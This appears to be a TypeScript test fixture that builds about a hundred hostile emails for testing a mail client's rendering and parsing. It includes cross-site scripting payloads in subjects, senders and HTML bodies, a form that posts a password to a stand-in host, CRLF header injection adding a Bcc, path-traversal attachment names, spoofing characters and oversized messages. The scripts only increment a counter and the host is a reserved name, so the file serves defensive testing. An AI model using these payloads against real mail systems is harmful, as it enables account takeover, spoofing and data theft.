/**
 * A mail that somebody means harm with, or that a program without care would choke on. Where a script of one ran, it
 * says so in the page: {@link hasRun}.
 */
export interface HostileMail {
  /** What it tries, in a few words; no two are alike. */
  readonly name: string;
  /** The message as it goes over the wire: lines end in CRLF, save where that is the very attack. */
  readonly raw: Buffer;
}

/** What every script in the mails does where it is run: it counts itself here. An expression for the page. */
export const hasRun = "globalThis.hostileRuns ?? 0";

const attack = "globalThis.hostileRuns=(globalThis.hostileRuns??0)+1";
/** A name that never leads anywhere (RFC 6761). */
const elsewhere = "http://hostile.invalid";
const sender = "mallory@hostile.invalid";

/** Ways to get a script into a page that puts text into its source. */
const markup: Readonly<Record<string, string>> = {
  "script element": `<script>${attack}</script>`,
  "image that fails": `<img src=x onerror="${attack}">`,
  "svg that loads": `<svg/onload=${attack}>`,
  "end of an attribute": `"><script>${attack}</script><i title="`,
  "end of a title": `</title></textarea></style><script>${attack}</script>`,
  "link to a script": `<a href="javascript:${attack}" autofocus onfocus="${attack}">open</a>`,
  "page in a frame": `<iframe srcdoc="&lt;script&gt;parent.${attack}&lt;/script&gt;"></iframe>`,
  template: `{{constructor.constructor('${attack}')()}}\${${attack}}<%= ${attack} %>`,
  "end of a JSON script": `</script><script>${attack}</script>\\u003cscript\\u003e`,
  "style that fetches": `<style>@import "${elsewhere}/style.css"; body{display:none}</style>`,
};

/** What HTML can ask of whoever shows it. */
const pages: Readonly<Record<string, string>> = {
  "remote image": `<img src="${elsewhere}/pixel.png" width=1 height=1>`,
  "event handlers": `<body onload="${attack}"><p onmouseover="${attack}" onclick="${attack}">move over me</p>`,
  "form that sends": `<form action="${elsewhere}/take" method=post><input name=password autofocus><button>go</button></form><script>document.forms[0].submit()</script>`,
  "refresh to elsewhere": `<meta http-equiv="refresh" content="0;url=${elsewhere}/">`,
  "base of all links": `<base href="${elsewhere}/"><a href="next">next</a>`,
  "remote style": `<link rel=stylesheet href="${elsewhere}/style.css"><p style="background:url(${elsewhere}/b.png)">`,
  "frame of elsewhere": `<iframe src="${elsewhere}/"></iframe><object data="${elsewhere}/o"></object><embed src="${elsewhere}/e">`,
  "whole window": `<div style="position:fixed;inset:0;z-index:2147483647;background:white">log in again</div>`,
  "image with a script": `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${attack}'/>"><svg><script>${attack}</script></svg>`,
  "broken markup": `<p><b><i><table><tr><td><!-- <script>${attack}</script> --!><noscript><p title="</noscript><img src=x onerror=${attack}>">`,
};

function qEncoded(text: string): string {
  const letters = [...Buffer.from(text)].map((byte) =>
    /[A-Za-z0-9]/.test(String.fromCharCode(byte))
      ? String.fromCharCode(byte)
      : `=${byte.toString(16).toUpperCase().padStart(2, "0")}`,
  );
  return `=?UTF-8?Q?${letters.join("")}?=`;
}

function bEncoded(text: string | Buffer, charset = "UTF-8"): string {
  return `=?${charset}?B?${Buffer.from(text).toString("base64")}?=`;
}

/** Headers as name and value, in order; a value may hold bytes of any kind. */
type Headers = readonly (readonly [string, string | Buffer])[];

/** The message's writer. */
class Writer {
  readonly #to: string;
  readonly mails: HostileMail[] = [];

  constructor(to: string) {
    this.#to = to;
  }

  /** Adds a mail with the usual headers; those that are given go before them, or in their place. */
  add(name: string, headers: Headers, body: string | Buffer = `${name}\r\n`): void {
    const given = new Set(headers.map(([header]) => header.toLowerCase()));
    const number = String(this.mails.length + 1).padStart(3, "0");
    const usual: Headers = [
      ["From", `Mallory <${sender}>`],
      ["To", this.#to],
      ["Subject", `Hostile ${number}: ${name}`],
      ["Date", "Tue, 24 Nov 2026 10:00:00 +0900"],
      ["Message-ID", `<hostile-${number}@hostile.invalid>`],
    ];
    const all = [...headers, ...usual.filter(([header]) => !given.has(header.toLowerCase()))];
    const lines = all.map(([header, value]) =>
      Buffer.concat([Buffer.from(`${header}: `), Buffer.from(value), Buffer.from("\r\n")]),
    );
    this.addRaw(name, Buffer.concat([...lines, Buffer.from("\r\n"), Buffer.from(body)]));
  }

  /** Adds a message as it is. */
  addRaw(name: string, raw: Buffer): void {
    this.mails.push({ name, raw });
  }

  /** Adds one with a body of a type. */
  addBody(name: string, type: string, body: string | Buffer, ...more: Headers): void {
    this.add(name, [["MIME-Version", "1.0"], ["Content-Type", type], ...more], body);
  }
}

function part(type: string, body: string, ...more: readonly string[]): string {
  return [`Content-Type: ${type}`, ...more, "", body].join("\r\n");
}

function multipart(boundary: string, ...parts: readonly string[]): string {
  return [...parts.flatMap((text) => [`--${boundary}`, text]), `--${boundary}--`, ""].join("\r\n");
}

function addScripts(mails: Writer): void {
  for (const [name, text] of Object.entries(markup)) {
    mails.add(`subject, ${name}`, [["Subject", text]]);
    mails.add(`subject in quoted-printable, ${name}`, [["Subject", qEncoded(text)]]);
    mails.add(`subject in base64, ${name}`, [["Subject", bEncoded(text)]]);
    mails.add(`sender's name, ${name}`, [["From", `${bEncoded(text)} <${sender}>`]]);
  }
  for (const [name, html] of Object.entries(pages)) mails.addBody(`HTML, ${name}`, "text/html", html);
  mails.addBody("plain text with a script", "text/plain", `<script>${attack}</script>\r\n`);
  mails.addBody(
    "script in UTF-7",
    "text/html; charset=utf-7",
    `+ADw-script+AD4-${attack}+ADw-/script+AD4-\r\n`,
  );
}

function addHeaderTricks(mails: Writer): void {
  const injected = "harmless\r\nBcc: victim@example2.test\r\n\r\n<script>injected()</script>";
  mails.add("line ends in an encoded subject", [["Subject", bEncoded(injected)]]);
  mails.add("line ends in an encoded name", [["From", `${qEncoded(injected)} <${sender}>`]]);
  mails.add("bare carriage return in the subject", [["Subject", `one\rX-Injected: yes`]]);
  mails.add("bare line feed in the subject", [["Subject", `one\nX-Injected: yes`]]);
  mails.add("two senders", [
    ["From", "root@example1.test"],
    ["From", `Mallory <${sender}>`],
  ]);
  mails.add("somebody else's name", [
    ["From", `"user2@example2.test" <${sender}>`],
    ["Sender", sender],
  ]);
  mails.add("address with markup", [["From", `<"<img src=x onerror=${attack}>"@hostile.invalid>`]]);
  mails.add("Message-ID with markup", [["Message-ID", `<"><script>${attack}</script>@hostile.invalid>`]]);
  mails.add("date that is none", [["Date", `Fri, 99 Foo 99999 99:99:99 +9999 <script>${attack}</script>`]]);
  mails.addRaw("no header at all", Buffer.from(`\r\nOnly a body.\r\n`));
  mails.addRaw("nothing at all", Buffer.alloc(0));
  mails.addRaw("header without an end", Buffer.from(`From: ${sender}\r\nSubject: endless`));
  mails.add("From at the beginning of lines", [], "From mallory Tue Nov 24\r\n>From here\r\n.\r\n..\r\n");
}

function addCharsets(mails: Writer): void {
  const shiftJis = Buffer.from("83658358836783818381815b838b", "hex");
  const text = "text/plain; charset=";
  mails.addBody("charset that there is not", `${text}x-klingon`, "qapla'\r\n");
  mails.addBody("Shift_JIS that says UTF-8", `${text}utf-8`, shiftJis);
  mails.add("broken charset in the subject", [["Subject", bEncoded(shiftJis, "UTF-8")]]);
  mails.addBody("ISO-2022-JP that is cut off", `${text}iso-2022-jp`, Buffer.from("\u001b$B$3$s\u001b$"));
  mails.addBody("overlong UTF-8", `${text}utf-8`, Buffer.from("c0bc736372697074c0be", "hex"));
  mails.addBody("halves of surrogates", `${text}utf-8`, Buffer.from("eda080edb080eda080", "hex"));
  mails.addBody("UTF-16 with no mark", `${text}utf-16`, Buffer.from("テスト", "utf16le"));
  mails.addBody("base64 that is none", `${text}utf-8`, "%%%=A=\r\n====\r\n", [
    "Content-Transfer-Encoding",
    "base64",
  ]);
  mails.addBody("quoted-printable that is none", `${text}utf-8`, "=ZZ=\r\n=4\r\n=\r\n", [
    "Content-Transfer-Encoding",
    "quoted-printable",
  ]);
  mails.add("nulls in the subject", [["Subject", Buffer.from("a\0b\0<script>c")]]);
  mails.addBody("nulls in the body", `${text}utf-8`, Buffer.from("\0\0before\0after\0\r\n"));
  mails.add("terminal's sequences in the subject", [
    ["Subject", "\u001b[2J\u001b]0;title\u0007\u001b[31m\u009b5m"],
  ]);
  mails.add("right-to-left override", [["Subject", "invoice\u202efdp.exe \u2067hidden\u2069"]]);
  mails.add("no width", [["Subject", "pay\u200bpal\u200d\u2060\ufeff\u00adbank"]]);
  mails.add("letters upon letters", [["Subject", bEncoded(`Z${"\u0335\u0321\u034f".repeat(300)}algo`)]]);
}

const deepest = 50;
const mostParts = 1000;

function addStructures(mails: Writer): void {
  let nested = part("text/plain", "the innermost");
  for (let depth = deepest; depth > 0; depth -= 1) {
    const boundary = `b${depth}`;
    nested = part(`multipart/mixed; boundary=${boundary}`, multipart(boundary, nested));
  }
  mails.addRaw(
    `parts in parts, ${deepest} deep`,
    Buffer.from(`From: ${sender}\r\nSubject: deep\r\nMIME-Version: 1.0\r\n${nested}`),
  );
  const many = Array.from({ length: mostParts }, (_, index) => part("text/plain", `part ${index}`));
  mails.addBody(`${mostParts} parts`, "multipart/mixed; boundary=b", multipart("b", ...many));
  mails.addBody("multipart with no boundary", "multipart/mixed", multipart("b", part("text/plain", "a")));
  mails.addBody(
    "multipart without an end",
    "multipart/mixed; boundary=b",
    `--b\r\n${part("text/plain", "a")}`,
  );
  let forwarded = "Subject: innermost\r\n\r\nhere\r\n";
  for (let depth = 0; depth < 20; depth += 1) forwarded = part("message/rfc822", forwarded);
  mails.addRaw("mails in mails", Buffer.from(`From: ${sender}\r\nSubject: forwarded\r\n${forwarded}`));
  mails.addBody("type with markup", `text/<script>${attack}</script>; name="a`, "a\r\n");
}

function addAttachments(mails: Writer): void {
  const attach = (name: string, parameter: string, content = "harmless"): void => {
    const disposition = `Content-Disposition: attachment; ${parameter}`;
    const parts = [part("text/plain", name), part("application/octet-stream", content, disposition)];
    mails.addBody(`attachment, ${name}`, "multipart/mixed; boundary=b", multipart("b", ...parts));
  };
  attach("path upwards", 'filename="../../../../etc/passwd"');
  attach("path of Windows", 'filename="C:\\\\Windows\\\\..\\\\CON"');
  attach("quotes and markup", `filename="\\"><img src=x onerror=${attack}>.png"`);
  attach("line ends in an encoded name", "filename*=UTF-8''a%0d%0aContent-Type:%20text/html%00.exe");
  attach("endless name", `filename="${"a".repeat(10_000)}.txt"`);
  const bytes = Buffer.from(
    Uint8Array.from({ length: 256 * 64 }, (_, index) => (index * 7 + (index >> 8)) % 256),
  );
  const encoded = bytes.toString("base64").replace(/.{76}/g, "$&\r\n");
  mails.addBody("binary", "application/octet-stream", encoded, ["Content-Transfer-Encoding", "base64"]);
  mails.addBody("bytes of every kind, not encoded", "application/octet-stream", bytes.subarray(0, 4096));
}

/** Under the 10,240,000 bytes that Postfix takes as it comes. */
const largestBytes = 10_000_000;
const longLineBytes = 200_000;

function addSizes(mails: Writer): void {
  const line = `${"0123456789 ".repeat(6)}mail\r\n`;
  mails.addBody("body of 10 MB", "text/plain", line.repeat(Math.floor(largestBytes / line.length)));
  mails.add("header line without an end", [["X-Endless", "e".repeat(longLineBytes)]]);
  mails.add("subject without an end", [["Subject", "<b>".repeat(longLineBytes / 4)]]);
  mails.addBody("body line without an end", "text/plain", "ｗ".repeat(longLineBytes / 3));
  mails.add(
    "5,000 header lines",
    Array.from({ length: 5000 }, (_, index) => [`X-${index}`, "value"] as const),
  );
  const everybody = Array.from({ length: 2000 }, (_, index) => `user${index}@hostile.invalid`);
  mails.add("2,000 recipients", [["Cc", everybody.join(",\r\n ")]]);
  mails.addBody("100,000 elements", "text/html", `<div>`.repeat(100_000));
}

/**
 * A hundred mails of that kind, the same ones each time.
 *
 * @param to - whom they are for, such as `user1@example1.test`.
 */
export function hostileMails(to: string): readonly HostileMail[] {
  const mails = new Writer(to);
  for (const add of [addScripts, addHeaderTricks, addCharsets, addStructures, addAttachments, addSizes])
    add(mails);
  return mails.mails;
}
